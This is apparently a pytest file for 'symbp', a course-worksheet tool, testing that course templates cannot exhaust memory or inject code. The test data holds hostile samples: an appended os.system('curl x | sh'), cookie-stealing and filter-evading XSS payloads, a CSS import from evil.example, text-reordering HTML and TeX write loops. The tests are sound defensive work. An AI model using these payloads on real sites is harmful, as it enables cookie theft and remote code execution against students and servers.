"""A hostile reviewer's findings (stop 47): a tiny graph spec that took memory without end, a course
template that built gigabytes while it was compiled, and course templates that put code into what
students and PrairieLearn run. Each is refused (exit 2, a short message) or finishes in bounded memory."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

from click.testing import CliRunner

from symbp.cli import main

from helpers import REPO

BUILT_IN = REPO / "templates"
_LIMITED = ("import resource, sys, runpy\n"
            "resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))\n"
            "sys.argv = ['symbp'] + sys.argv[1:]\n"
            "runpy.run_module('symbp', run_name='__main__')\n")


def _symbp_in_3_gb(*args, cwd) -> subprocess.CompletedProcess:
    """symbp run with at most 3 GB of address space (a run that needs more fails, not the machine)."""
    return subprocess.run([sys.executable, "-c", _LIMITED, *args], capture_output=True, text=True, cwd=cwd,
                          timeout=240, env={"PYTHONPATH": str(REPO), "PATH": "/usr/bin:/bin", "HOME": str(cwd)})


def test_square_roots_nested_forty_deep_are_worked_out_in_bounded_memory(tmp_path):
    """sqrt(sqrt(…(x)…)) 40 deep is x^(2^−40): the exact root's test built 2^(2^40) (128 GB) to learn that
    2 has no such root."""
    spec = tmp_path / "roots.toml"
    spec.write_text('kind = "graph"\ninputs = { x = 2 }\nstages = ["f = ' + "sqrt(" * 40 + "x" + ")" * 40 + '"]\n',
                    encoding="utf-8")
    done = _symbp_in_3_gb("derive", str(spec), "--format", "json", cwd=tmp_path)
    assert done.returncode == 0, done.stderr[-500:]
    assert '"f"' in done.stdout


def _course(tmp_path, name: str, text: str) -> Path:
    folder = tmp_path / "course"
    (folder / Path(name).parent).mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(text, encoding="utf-8")
    return folder


def test_a_format_width_taken_from_an_argument_is_refused_before_it_builds_anything(tmp_path):
    """`"%*d" | format(900000000, 1)`: a 900 MB string, built by Jinja's optimizer while compiling (outside the
    memory cap: 4.4 GB, 18 s); the format check did not see a width given as an argument."""
    folder = _course(tmp_path, "text/solution.txt.jinja", '<%= "%*d" | format(900000000, 1) %>\n')
    done = _symbp_in_3_gb("derive", "--example", "nn231", "--templates", str(folder), cwd=tmp_path)
    assert done.returncode == 2 and "taken from an argument" in done.stderr, done.stderr[-500:]
    folder = _course(tmp_path, "text/solution.txt.jinja", '<%= "{:{}}".format(1, 900000000) %>\n')
    done = _symbp_in_3_gb("derive", "--example", "nn231", "--templates", str(folder), cwd=tmp_path)
    assert done.returncode == 2 and "taken from an argument" in done.stderr, done.stderr[-500:]


def test_a_course_folder_compiles_its_templates_without_working_out_their_constants():
    from symbp.render.templates import environment

    assert environment(str(BUILT_IN)).optimized is False and environment(None).optimized is True


def _sheet(tmp_path, folder, *exports):
    out = tmp_path / "sheet"
    return CliRunner().invoke(main, ["worksheet", "--example", "nn231", "-n", "2", "--seed", "1", "-o", str(out),
                                     "--templates", str(folder), *exports]), out


def test_a_course_folder_may_not_replace_the_code_prairielearn_runs(tmp_path):
    server = (BUILT_IN / "prairielearn" / "server.py.jinja").read_text(encoding="utf-8")
    folder = _course(tmp_path, "prairielearn/server.py.jinja", server + 'import os; os.system("curl x | sh")\n')
    result, out = _sheet(tmp_path, folder, "--prairielearn", str(tmp_path / "pl"))
    assert result.exit_code == 2 and "may not replace server.py" in result.output, result.output
    assert not (tmp_path / "pl").exists() and not out.exists()
    (folder / "prairielearn" / "server.py.jinja").write_text(server, encoding="utf-8")  # a copy, unchanged: fine
    result, _ = _sheet(tmp_path, folder, "--prairielearn", str(tmp_path / "pl"))
    assert result.exit_code == 0, result.output
    assert (tmp_path / "pl" / "server.py").read_text(encoding="utf-8").count("import") >= 1


def test_a_course_template_may_not_put_scripts_into_students_pages(tmp_path):
    for name, export, payload in (
            ("moodle/question.html.jinja", "--moodle", "<script>fetch('//x/'+document.cookie)</script>"),
            ("prairielearn/question.html.jinja", "--prairielearn", '<img src=x onerror="alert(1)">'),
            ("prairielearn/question.html.jinja", "--prairielearn", '<a href="JavaScript:alert(1)">hint</a>'),
            # a second reviewer's ways past a pattern over the text: read as a browser reads them
            ("prairielearn/question.html.jinja", "--prairielearn", '<img src="x"onerror="alert(1)">'),
            ("moodle/question.html.jinja", "--moodle", "<svg/onload=alert(document.cookie)>"),
            ("prairielearn/question.html.jinja", "--prairielearn", '<img alt=">" src=x onerror=alert(1)>'),
            ("prairielearn/question.html.jinja", "--prairielearn", '<a href="jav&#x61;script:alert(1)">x</a>'),
            ("prairielearn/question.html.jinja", "--prairielearn", '<a href="java&#9;script:alert(1)">x</a>'),
            ("prairielearn/question.html.jinja", "--prairielearn", '<svg><set attributeName="href" to="jav&#97;script:alert(1)"/></svg>'),
            ("prairielearn/question.html.jinja", "--prairielearn", "<style>@import url(//evil.example/x.css)</style>")):
        text = (BUILT_IN / name).read_text(encoding="utf-8") + payload + "\n"
        where = tmp_path / name.replace("/", "-") / str(abs(hash(payload)))
        folder = _course(where, name, text)
        target = where / "export"
        result, out = _sheet(where, folder, export, str(target))
        assert result.exit_code == 2 and "active content" in result.output, (name, result.output)
        assert not target.exists() and not out.exists()


def test_a_pdf_that_fails_to_compile_leaves_no_earlier_pdf_beside_its_tex(tmp_path, requires_tex):
    """`derive -o x.pdf` twice, the second failing in pdflatex: x.tex was the new document and x.pdf the old one's."""
    target = tmp_path / "x.pdf"
    assert CliRunner().invoke(main, ["derive", "--example", "nn231", "-o", str(target)]).exit_code == 0
    assert target.exists()
    name = "tex/solution.tex.jinja"
    folder = _course(tmp_path, name, (BUILT_IN / name).read_text(encoding="utf-8").replace(
        "\\begin{document}", "\\begin{document}\\undefinedcommandofacourse", 1))
    result = CliRunner().invoke(main, ["derive", "--example", "mazur", "--templates", str(folder), "-o", str(target)])
    assert result.exit_code == 5, result.output
    assert "Mazur" in (tmp_path / "x.tex").read_text(encoding="utf-8")  # the new .tex, kept to read its error
    assert not target.exists()


def test_latex_that_writes_without_end_is_stopped_at_the_file_size_bound(tmp_path, requires_tex, monkeypatch):
    """A course template's \\write loop filled the temporary folder (~25 MB/s for 600 s) and a \\message loop
    the memory (pdflatex's output was read whole): every file a TeX run writes is bounded (here 1 MB)."""
    import symbp.render.pdf as pdf

    monkeypatch.setattr(pdf, "MAX_TEX_FILE_MB", 1)
    name = "tex/solution.tex.jinja"
    loops = {"write": r"\newwrite\w\immediate\openout\w=big.txt \def\y{\immediate\write\w{AAAAAAAAAAAAAAAAAAAA}\y}\y",
             "message": r"\def\y{\message{AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA}\y}\y"}
    for kind, loop in loops.items():
        folder = _course(tmp_path / kind, name, (BUILT_IN / name).read_text(encoding="utf-8").replace(
            "\\begin{document}", "\\begin{document}" + loop, 1))
        result = CliRunner().invoke(main, ["derive", "--example", "nn231", "--templates", str(folder),
                                           "-o", str(tmp_path / kind / "x.pdf")])
        assert result.exit_code == 5 and "wrote a file of more than 1 MB" in result.output, (kind, result.output)
        assert not (tmp_path / kind / "x.pdf").exists()


def test_a_whole_number_python_will_not_read_is_named_by_its_field_and_line(tmp_path):
    spec = tmp_path / "net.toml"
    spec.write_text('title = "t"\nlearning_rate = ' + "7" * 5000 + "\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["derive", str(spec)])
    assert result.exit_code == 2 and "learning_rate: a whole number of 5,000 digits (line 2)" in result.output
    assert "sys.set_int_max_str_digits" not in result.output  # (Python's own words were printed)


def test_an_unknown_key_of_almost_two_megabytes_is_not_echoed_whole(tmp_path):  # (within the file limit)
    spec = tmp_path / "net.toml"
    spec.write_text('"' + "k" * 1_900_000 + '" = 1\n', encoding="utf-8")
    result = CliRunner().invoke(main, ["derive", str(spec)])
    assert result.exit_code == 2 and "unknown key" in result.output and len(result.output) < 2000


def test_plain_markup_and_escaped_format_braces_are_taken(tmp_path):
    """What a course writes to lay out a page (a table, a style, a link, a comparison in text) and a format
    string's escapes ("{{…}}", "%%") are not refused."""
    from symbp.render.markup_check import active_markup
    from symbp.render.sandbox import _check_format

    for html in ('<table><tr><td style="color: #333">a < b</td></tr></table>', '<a href="https://example.org/x">x</a>',
                 '<img src="data:image/png;base64,AAAA">', "<pl-number-input answers-name='z'></pl-number-input>"):
        assert active_markup(html) is None, html
    for text in ("{{units: {}}}", "100%%*", "%5.2f", "{:>8}"):
        _check_format(text)


def test_a_tex_file_limit_below_symbp_s_own_is_kept(tmp_path, requires_tex):
    """`ulimit -f` of 256 MB failed where the user's own hard limit is lower (exit 5 on every PDF): theirs is kept."""
    script = ("import resource, sys, runpy\n"
              "resource.setrlimit(resource.RLIMIT_FSIZE, (100 << 20, 100 << 20))\n"
              "sys.argv = ['symbp'] + sys.argv[1:]\n"
              "runpy.run_module('symbp', run_name='__main__')\n")
    done = subprocess.run([sys.executable, "-c", script, "derive", "--example", "graph-circuit", "-o", str(tmp_path / "c.pdf")],
                          capture_output=True, text=True, timeout=240, env={"PYTHONPATH": str(REPO), "PATH": "/usr/bin:/bin"})
    assert done.returncode == 0 and (tmp_path / "c.pdf").exists(), done.stderr[-500:]


def test_a_class_report_whose_pdf_fails_leaves_no_earlier_pdf(tmp_path, requires_tex):
    out = tmp_path / "sheet"
    assert CliRunner().invoke(main, ["worksheet", "--example", "graph-circuit", "-n", "1", "--seed", "2", "-o", str(out)]).exit_code == 0
    folder = tmp_path / "subs"
    folder.mkdir()
    (folder / "ann.toml").write_text('variant = 1\n"f" = "0.5"\n', encoding="utf-8")
    marked = tmp_path / "marked"
    args = ["check", "--key", str(out / "answers.json"), str(folder), "--out", str(marked), "--pdf"]
    CliRunner().invoke(main, args)
    assert (marked / "ann.pdf").exists()
    name = "tex/check.tex.jinja"
    course = _course(tmp_path / "bad", name, (BUILT_IN / name).read_text(encoding="utf-8").replace(
        "\\begin{document}", "\\begin{document}\\undefinedcommandofacourse", 1))
    result = CliRunner().invoke(main, args + ["--templates", str(course)])
    assert result.exit_code == 5, result.output
    assert (marked / "ann.tex").exists() and not (marked / "ann.pdf").exists()


def test_an_unchanged_copy_of_the_check_report_template_marks_a_network_as_symbp_s_own(tmp_path):
    """A course folder with symbp's own tex/check.tex.jinja, unchanged, was refused for a network ("prints the
    number 6": the step numbers and page-mark ids were worked out in the template): the same report now."""
    name = "tex/check.tex.jinja"
    folder = _course(tmp_path, name, (BUILT_IN / name).read_text(encoding="utf-8"))
    import symbp

    answers = {"z_0^1": "-0.5", "L": "0.9"}
    own = symbp.check(symbp.example("mazur"), answers).to("tex")
    assert symbp.check(symbp.example("mazur"), answers, templates=folder).to("tex") == own
    assert "\\stepmark{6}" in own and "{group6}" in own


def test_an_unchanged_copy_of_the_report_templates_marks_a_graph_as_symbp_s_own(tmp_path):
    """The graph's rule sentence prints the chains' digits (4, 5 or 6): from symbp's data (rule.more_digits, most_digits),
    so that a course's unchanged copies of the report templates give the same report."""
    import symbp

    answers = {"s.1": "-2", "f.2": "0.3679", "df/dw0": "-0.1966"}
    for name, fmt in (("tex/check.tex.jinja", "tex"), ("text/check-rule.txt.jinja", "text")):
        folder = _course(tmp_path / fmt, name, (BUILT_IN / name).read_text(encoding="utf-8"))
        own = symbp.check(symbp.example("graph-neuron"), answers).to(fmt)
        assert symbp.check(symbp.example("graph-neuron"), answers, templates=folder).to(fmt) == own
        assert "4, 5 or 6 significant digits; the local derivatives may be rounded" in " ".join(own.split())


def test_a_course_template_may_not_reorder_what_students_read(tmp_path):
    """Bidi control characters were refused in a course's output, but HTML reorders text without them
    (stop 48's hostile reviewer): <bdo dir="rtl">0.25</bdo> shows "52.0".  Refused as the characters are;
    dir="ltr" (the default, written out) is fine."""
    name = "moodle/question.html.jinja"
    for payload, refused in (('<bdo dir="rtl">0.25</bdo>', True), ('<span dir="rtl">-0.5</span>', True),
                             ('<p style="direction: rtl">1, 2</p>', True), ("<style>p{unicode-bidi:bidi-override}</style>", True),
                             ('<p dir="auto">x</p>', True), ('<p dir="ltr">x</p>', False)):
        text = (BUILT_IN / name).read_text(encoding="utf-8") + payload + "\n"
        where = tmp_path / str(abs(hash(payload)))
        folder = _course(where, name, text)
        result, out = _sheet(where, folder, "--moodle", str(where / "quiz.xml"))
        if refused:
            assert result.exit_code == 2 and "reorders text" in result.output, (payload, result.output)
            assert not (where / "quiz.xml").exists() and not out.exists()
        else:
            assert result.exit_code == 0, (payload, result.output)
